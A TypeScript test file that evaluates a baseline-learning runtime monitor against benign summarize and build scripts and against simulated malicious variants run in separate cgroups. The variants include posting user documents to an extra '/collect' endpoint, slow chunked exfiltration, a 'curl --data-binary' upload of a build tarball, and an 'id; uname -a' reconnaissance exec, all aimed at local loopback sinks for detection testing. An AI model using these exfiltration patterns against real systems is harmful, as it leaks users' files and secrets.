import { spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadBaseline } from '../rules/baseline-file.js';
import type { Finding } from '../schema/finding.js';
import { cgroupV2Root } from '../source/cgroups.js';
import { httpSink } from '../testing/live-harness.js';
import { learnBaseline, writeBaseline } from './baseline-session.js';
import { runLiveSession } from './live-session.js';
import { runReplay } from './replay-session.js';

/**
 * The baseline evaluation of docs/baselines.md, for real: benign runs of two
 * intents (summarize: read a document, think, post a summary; build: tar and
 * gzip a source tree) and malicious variants that stay inside a static
 * capability list (an extra destination, exfiltration slowed down, a burst,
 * an unusual exec, a build that uploads), recorded under the live probes,
 * each run in a cgroup of its own (the task: the cgroup path). Baselines are
 * learned on the first 15 benign runs of each intent and scored on the other
 * 10 and on the malicious runs.
 */
const RUNS = 25;
const LEARN = 15;
const root = `/chainwatch-eval-${process.pid}`;
const cgRoot = cgroupV2Root();
const dir = mkdtempSync(join(tmpdir(), 'cw-eval-'));
const trace = join(dir, 'eval.trace.jsonl.gz');
// under /home/*/: the user-data class of rules/data-classes.yaml
const home = `/home/cw-eval-${process.pid}`;
const docs = join(home, 'Documents');
let api: Awaited<ReturnType<typeof httpSink>>;
let other: Awaited<ReturnType<typeof httpSink>>;
const results: Record<string, { task: string; kind: 'benign' | 'malicious'; intent: string; findings: string[] }[]> = {};

function run(name: string, script: string): Promise<void> {
  mkdirSync(join(cgRoot, root, name), { recursive: true });
  const procs = join(cgRoot, root, name, 'cgroup.procs');
  const c = spawn('/bin/bash', ['-c', `echo $$ > ${procs} && exec /bin/bash -c "$CW_SCRIPT"`], { env: { ...process.env, CW_SCRIPT: script }, stdio: 'ignore' });
  return new Promise((r) => c.once('exit', () => r()));
}

const summarize = (i: number, o: { delay?: number; extra?: boolean; chunks?: number; chunkGap?: number; burst?: number; exec?: boolean } = {}): string => `python3 -c '
import time, random, urllib.request, subprocess
random.seed(${i})
doc = open("${docs}/doc-${i % 7}.txt", "rb").read()
time.sleep(${o.delay ?? 'random.uniform(0.3, 0.7)'})
${o.exec ? 'subprocess.run(["sh", "-c", "id; uname -a"], capture_output=True)' : ''}
summary = doc[:200] + b" ... (" + str(len(doc)).encode() + b" bytes)"
def post(url, body):
    urllib.request.urlopen(urllib.request.Request(url, data=body, method="POST"), timeout=5).read()
${o.chunks ? `for k in range(${o.chunks}):\n    post("http://127.0.0.2:${api.port}/summarize", doc[k*len(doc)//${o.chunks}:(k+1)*len(doc)//${o.chunks}])\n    time.sleep(${o.chunkGap ?? 0.3})` : `post("http://127.0.0.2:${api.port}/summarize", summary)`}
${o.extra ? `post("http://127.0.0.3:${other.port}/collect", summary)` : ''}
${o.burst ? `for k in range(${o.burst}):\n    post("http://127.0.0.2:${api.port}/summarize", summary)` : ''}
'`;

const build = (i: number, upload = false): string =>
  `cd ${dir} && tar czf ${dir}/out-${i}.tgz src && gzip -t ${dir}/out-${i}.tgz && sha256sum ${dir}/out-${i}.tgz > /dev/null` +
  (upload ? ` && curl -s -m 5 --data-binary @${dir}/out-${i}.tgz http://127.0.0.2:${api.port}/upload -o /dev/null` : '');

beforeAll(async () => {
  mkdirSync(docs, { recursive: true });
  for (let d = 0; d < 7; d++) writeFileSync(join(docs, `doc-${d}.txt`), `Quarterly notes ${d}. `.repeat(200 + d * 150));
  mkdirSync(join(dir, 'src/lib'), { recursive: true });
  for (let f = 0; f < 30; f++) writeFileSync(join(dir, 'src/lib', `m${f}.c`), `int f${f}(void) { return ${f}; }\n`.repeat(50));
  api = await httpSink('ok\n');
  other = await httpSink('ok\n', '127.0.0.3');
  mkdirSync(join(cgRoot, root), { recursive: true });
  let stop!: () => void;
  const stopped = new Promise<void>((r) => (stop = r));
  let ready!: () => void;
  const isReady = new Promise<void>((r) => (ready = r));
  const session = runLiveSession({ target: { mode: 'cgroup', path: root }, taskPerCgroup: true, record: trace, stopSignal: stopped, onReady: () => ready(), analysis: false });
  await Promise.race([isReady, session]);
  for (let i = 0; i < RUNS; i++) {
    await run(`summarize-${String(i).padStart(2, '0')}`, summarize(i));
    await run(`build-${String(i).padStart(2, '0')}`, build(i));
  }
  for (let i = 0; i < 3; i++) {
    await run(`mal-summarize-extra-dest-${i}`, summarize(100 + i, { extra: true }));
    await run(`mal-summarize-slow-exfil-${i}`, summarize(110 + i, { delay: 3, chunks: 8, chunkGap: 0.4 }));
    await run(`mal-summarize-burst-${i}`, summarize(120 + i, { burst: 40 }));
    await run(`mal-summarize-odd-exec-${i}`, summarize(130 + i, { exec: true }));
    await run(`mal-build-upload-${i}`, build(140 + i, true));
  }
  stop();
  await session;
}, 600_000);

afterAll(async () => {
  await api?.close();
  await other?.close();
  rmSync(home, { recursive: true, force: true });
  try {
    rmdirSync(join(cgRoot, root));
  } catch {
    // children left for the kernel
  }
});

describe('baseline evaluation (live recording: 25 benign runs per intent, 15 malicious)', () => {
  it('learned on 15 runs per intent: the malicious variants deviate, the held-out benign runs stay quiet', async () => {
    const learnTasks = (intent: string): string => `${intent}-{${Array.from({ length: LEARN }, (_, i) => String(i).padStart(2, '0')).join(',')}}`;
    for (const intent of ['summarize', 'build']) {
      const b = await learnBaseline({ intent, traces: [trace], tasks: learnTasks(intent) });
      expect(b.runs).toBe(LEARN);
      writeBaseline(b, join(dir, `${intent}.baseline.json`));
    }
    for (const intent of ['summarize', 'build']) {
      const findings: Finding[] = [];
      await runReplay({ traces: [trace], baselines: [loadBaseline(join(dir, `${intent}.baseline.json`))], onFinding: (f) => findings.push(f) });
      const tasks = [...new Set(findings.map((f) => f.task))];
      results[intent] = [];
      for (let i = LEARN; i < RUNS; i++) {
        const task = `${intent}-${String(i).padStart(2, '0')}`;
        results[intent].push({ task, kind: 'benign', intent, findings: findings.filter((f) => f.task === task && f.category === 'baseline').map((f) => f.summary) });
      }
      for (const t of tasks.filter((x) => x.startsWith(`mal-${intent}-`))) {
        results[intent].push({ task: t, kind: 'malicious', intent, findings: findings.filter((f) => f.task === t && f.category === 'baseline').map((f) => f.summary) });
      }
    }
    const all = Object.values(results).flat();
    const benign = all.filter((r) => r.kind === 'benign');
    const malicious = all.filter((r) => r.kind === 'malicious');
    const fp = benign.filter((r) => r.findings.length > 0);
    const missed = malicious.filter((r) => r.findings.length === 0);
    const report = join(dir, 'baseline-eval.json');
    writeFileSync(report, `${JSON.stringify({ runs: RUNS, learned_on: LEARN, benign: benign.length, malicious: malicious.length, false_positives: fp.length, detected: malicious.length - missed.length, results: all }, null, 2)}\n`);
    console.log(`baseline evaluation: ${malicious.length - missed.length}/${malicious.length} malicious runs detected, ${fp.length}/${benign.length} held-out benign runs with a finding (report: ${report})`);
    expect(malicious.length).toBe(15);
    expect(missed.map((r) => r.task)).toEqual([]);
    expect(fp.map((r) => `${r.task}: ${r.findings.join('; ')}`)).toEqual([]);
  }, 300_000);
});
